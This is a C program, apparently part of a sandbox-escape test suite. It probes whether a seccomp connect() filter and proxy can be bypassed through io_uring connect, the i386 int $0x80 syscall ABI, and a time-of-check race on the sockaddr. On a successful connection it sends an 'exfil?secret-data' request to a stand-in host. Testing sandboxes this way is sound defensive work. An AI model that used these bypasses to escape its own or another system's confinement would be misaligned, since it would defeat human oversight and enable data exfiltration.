/*
 * Escape attempts through the side doors of a connect() filter: a TCP
 * connection opened by io_uring (IORING_OP_CONNECT never passes through
 * seccomp), and one opened through the i386 system call ABI (int $0x80:
 * socketcall(2) and the direct socket/connect numbers), which a filter
 * written for x86_64 numbers alone does not recognise.
 *
 * A third probe races the check itself: one thread keeps flipping the
 * address a connect() is given between 127.0.0.1 (the proxy) and ADDR4,
 * while the other calls connect() with it again and again; a supervisor
 * that reads the sockaddr twice (once to check, once to connect) lets one
 * through.
 *
 * usage: side_doors io_uring|int80|race ADDR4 PORT...
 *
 * Every probe runs in a forked child (a seccomp kill ends only it) and
 * prints "probe NAME: escaped|blocked: DETAIL"; then "RESULT escaped: ..."
 * (exit 1) if a catcher answered (marker CAUGHT) on any of them, else
 * "RESULT blocked: ..." (exit 0).  Output format as escape/common.py.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char request[] =
    "GET /exfil?secret-data HTTP/1.1\r\nHost: exfil.test\r\n"
    "Connection: close\r\n\r\n";

/* A whole response with a Content-Length has arrived. */
static int
complete(const char *rd)
{
	const char *end = strstr(rd, "\r\n\r\n"), *cl;

	if (end == NULL)
		return 0;
	cl = strcasestr(rd, "\r\ncontent-length:");
	if (cl == NULL || cl > end)
		return 0;
	return strlen(end + 4) >= (size_t)atol(cl + 17);
}

/* Sends the request on a connected socket and says whether a catcher
 * answered; writes the detail into buf. */
static int
talk(int fd, char *buf, size_t len)
{
	char rd[4096];
	size_t got = 0;
	struct pollfd p = {.fd = fd, .events = POLLIN};

	if (write(fd, request, sizeof(request) - 1) == -1) {
		snprintf(buf, len, "connected; write: %s", strerror(errno));
		return 0;
	}
	while (got < sizeof(rd) - 1 && poll(&p, 1, 1500) == 1) {
		ssize_t n = read(fd, rd + got, sizeof(rd) - 1 - got);
		if (n <= 0)
			break;
		got += (size_t)n;
		rd[got] = '\0';
		if (complete(rd))
			break;
	}
	rd[got] = '\0';
	if (strstr(rd, "CAUGHT") != NULL) {
		snprintf(buf, len, "the catcher answered");
		return 1;
	}
	if (strncmp(rd, "HTTP/1.1 403", 12) == 0) {
		snprintf(buf, len, "connected; proxy-403");
		return 0;
	}
	snprintf(buf, len, "connected; %zu bytes, no marker", got);
	return 0;
}

static int
by_io_uring(const struct sockaddr_in *sa, char *buf, size_t len)
{
	struct io_uring_params p;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqe;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	unsigned idx;
	void *sq, *cq;
	int ring, fd, res;

	memset(&p, 0, sizeof(p));
	ring = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (ring == -1) {
		snprintf(buf, len, "io_uring_setup: %s", strerror(errno));
		return 0;
	}
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned),
	    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
	    IORING_OFF_SQ_RING);
	cq = mmap(NULL,
	    p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
	    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
	    IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
	    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
	    IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		snprintf(buf, len, "io_uring mmap: %s", strerror(errno));
		return 0;
	}
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd == -1) {
		snprintf(buf, len, "socket: %s", strerror(errno));
		return 0;
	}
	sq_tail = (unsigned *)((char *)sq + p.sq_off.tail);
	sq_mask = (unsigned *)((char *)sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)((char *)sq + p.sq_off.array);
	cq_head = (unsigned *)((char *)cq + p.cq_off.head);
	cq_tail = (unsigned *)((char *)cq + p.cq_off.tail);
	cq_mask = (unsigned *)((char *)cq + p.cq_off.ring_mask);

	idx = *sq_tail & *sq_mask;
	memset(&sqes[idx], 0, sizeof(sqes[idx]));
	sqes[idx].opcode = IORING_OP_CONNECT;
	sqes[idx].fd = fd;
	sqes[idx].addr = (uint64_t)(uintptr_t)sa;
	sqes[idx].off = sizeof(*sa);
	sqes[idx].user_data = 1;
	sq_array[idx] = idx;
	__atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 1, 0, 0, NULL, 0) == -1) {
		snprintf(buf, len, "io_uring_enter: %s", strerror(errno));
		return 0;
	}
	/* A dropped SYN would keep the connect pending for minutes. */
	for (res = 0; res < 150 &&
	     __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head;
	     res++) {
		struct timespec ts = {0, 10 * 1000 * 1000};

		nanosleep(&ts, NULL);
	}
	if (__atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head) {
		snprintf(buf, len, "io_uring connect: no completion in 1.5 s");
		return 0;
	}
	cqe = (struct io_uring_cqe *)((char *)cq + p.cq_off.cqes) +
	    (*cq_head & *cq_mask);
	res = cqe->res;
	if (res < 0) {
		snprintf(buf, len, "io_uring connect: %s", strerror(-res));
		return 0;
	}
	return talk(fd, buf, len);
}

static long
sys32(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80"
	                 : "=a"(ret)
	                 : "a"(nr), "b"(a), "c"(b), "d"(c)
	                 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

#define I386_SOCKETCALL 102
#define I386_SOCKET 359
#define I386_CONNECT 362
#define SC_SOCKET 1
#define SC_CONNECT 3

static int
by_int80(const struct sockaddr_in *sa, int direct, char *buf, size_t len)
{
	/* The i386 ABI takes 32-bit pointers: everything below 4 GiB. */
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	struct timeval tv = {1, 500000};
	uint32_t *args;
	long fd, r;

	if (low == MAP_FAILED) {
		snprintf(buf, len, "mmap: %s", strerror(errno));
		return 0;
	}
	memcpy(low + 256, sa, sizeof(*sa));
	args = (uint32_t *)low;
	if (direct) {
		fd = sys32(I386_SOCKET, AF_INET, SOCK_STREAM, 0);
	} else {
		args[0] = AF_INET;
		args[1] = SOCK_STREAM;
		args[2] = 0;
		fd =
		    sys32(I386_SOCKETCALL, SC_SOCKET, (long)(uintptr_t)args, 0);
	}
	if (fd < 0) {
		snprintf(buf, len, "i386 socket: %s", strerror((int)-fd));
		return 0;
	}
	/* connect() gives up after 1.5 s instead of the SYN retries. */
	setsockopt((int)fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (direct) {
		r = sys32(I386_CONNECT, fd, (long)(uintptr_t)(low + 256),
		    sizeof(*sa));
	} else {
		args[0] = (uint32_t)fd;
		args[1] = (uint32_t)(uintptr_t)(low + 256);
		args[2] = sizeof(*sa);
		r = sys32(
		    I386_SOCKETCALL, SC_CONNECT, (long)(uintptr_t)args, 0);
	}
	if (r < 0) {
		snprintf(buf, len, "i386 connect: %s", strerror((int)-r));
		return 0;
	}
	return talk((int)fd, buf, len);
}

static struct sockaddr_in race_sa;
static volatile int race_stop;
static struct in_addr race_loop, race_foreign;

static void *
flipper(void *arg)
{
	(void)arg;
	while (!race_stop) {
		__atomic_store_n(&race_sa.sin_addr.s_addr, race_loop.s_addr,
		    __ATOMIC_RELAXED);
		__atomic_store_n(&race_sa.sin_addr.s_addr, race_foreign.s_addr,
		    __ATOMIC_RELAXED);
	}
	return NULL;
}

static int
by_race(const struct sockaddr_in *sa, char *buf, size_t len)
{
	struct timeval tv = {0, 300000};
	struct timespec t0, t1;
	struct sockaddr_in peer;
	socklen_t plen;
	pthread_t th;
	int tries = 0, loops = 0, foreign = 0, denied = 0, escaped = 0;

	race_sa = *sa;
	race_foreign = sa->sin_addr;
	inet_pton(AF_INET, "127.0.0.1", &race_loop);
	if (pthread_create(&th, NULL, flipper, NULL) != 0) {
		snprintf(buf, len, "pthread_create failed");
		return 0;
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd == -1)
			break;
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
		tries++;
		if (connect(fd, (struct sockaddr *)&race_sa, sizeof(race_sa)) ==
		    -1) {
			denied++;
		} else {
			plen = sizeof(peer);
			getpeername(fd, (struct sockaddr *)&peer, &plen);
			if (peer.sin_addr.s_addr == race_loop.s_addr) {
				loops++;
			} else if (foreign++ < 3) {
				char detail[200];

				if (talk(fd, detail, sizeof(detail))) {
					escaped = 1;
					close(fd);
					break;
				}
			}
		}
		close(fd);
		clock_gettime(CLOCK_MONOTONIC, &t1);
	} while ((t1.tv_sec - t0.tv_sec) * 1000 +
	            (t1.tv_nsec - t0.tv_nsec) / 1000000 <
	        1000 &&
	    tries < 2000);
	race_stop = 1;
	pthread_join(th, NULL);
	snprintf(buf, len,
	    "%s after %d connects: %d refused, %d to the "
	    "proxy, %d to the foreign address",
	    escaped ? "the catcher answered" : "no catcher", tries, denied,
	    loops, foreign);
	return escaped;
}

/* Runs one probe in a child; prints its line; returns 1 if it escaped. */
static int
probe(const char *name, const char *mode, const struct sockaddr_in *sa,
    int direct)
{
	char line[512] = "";
	int pfd[2], st, escaped = 0;
	ssize_t n;
	pid_t pid;

	if (pipe(pfd) == -1)
		return 0;
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		char buf[400];
		int e;

		close(pfd[0]);
		alarm(6);
		if (strcmp(mode, "io_uring") == 0)
			e = by_io_uring(sa, buf, sizeof(buf));
		else if (strcmp(mode, "race") == 0)
			e = by_race(sa, buf, sizeof(buf));
		else
			e = by_int80(sa, direct, buf, sizeof(buf));
		dprintf(pfd[1], "%c%s", e ? 'E' : 'B', buf);
		_exit(0);
	}
	close(pfd[1]);
	n = read(pfd[0], line, sizeof(line) - 1);
	close(pfd[0]);
	waitpid(pid, &st, 0);
	if (n > 1) {
		line[n] = '\0';
		escaped = line[0] == 'E';
		printf("probe %s: %s: %s\n", name,
		    escaped ? "escaped" : "blocked", line + 1);
	} else if (WIFSIGNALED(st)) {
		printf("probe %s: blocked: killed by signal %d\n", name,
		    WTERMSIG(st));
	} else {
		printf("probe %s: blocked: no report (exit %d)\n", name,
		    WEXITSTATUS(st));
	}
	return escaped;
}

int
main(int argc, char **argv)
{
	struct sockaddr_in sa;
	char name[128];
	int i, escaped = 0;

	if (argc < 4 ||
	    (strcmp(argv[1], "io_uring") != 0 &&
	        strcmp(argv[1], "int80") != 0 &&
	        strcmp(argv[1], "race") != 0)) {
		fprintf(stderr,
		    "usage: side_doors io_uring|int80|race ADDR4 PORT...\n");
		return 2;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	if (inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1) {
		fprintf(stderr, "side_doors: bad address %s\n", argv[2]);
		return 2;
	}
	for (i = 3; i < argc; i++) {
		sa.sin_port = htons((uint16_t)atoi(argv[i]));
		if (strcmp(argv[1], "io_uring") == 0) {
			snprintf(name, sizeof(name), "io_uring connect %s:%s",
			    argv[2], argv[i]);
			escaped |= probe(name, argv[1], &sa, 0);
		} else if (strcmp(argv[1], "race") == 0) {
			snprintf(name, sizeof(name),
			    "connect racing 127.0.0.1/%s:%s", argv[2], argv[i]);
			escaped |= probe(name, argv[1], &sa, 0);
		} else {
			snprintf(name, sizeof(name), "i386 socketcall %s:%s",
			    argv[2], argv[i]);
			escaped |= probe(name, argv[1], &sa, 0);
			snprintf(name, sizeof(name),
			    "i386 socket+connect %s:%s", argv[2], argv[i]);
			escaped |= probe(name, argv[1], &sa, 1);
		}
	}
	printf("RESULT %s\n", escaped ? "escaped: see the probes" : "blocked");
	return escaped ? 1 : 0;
}
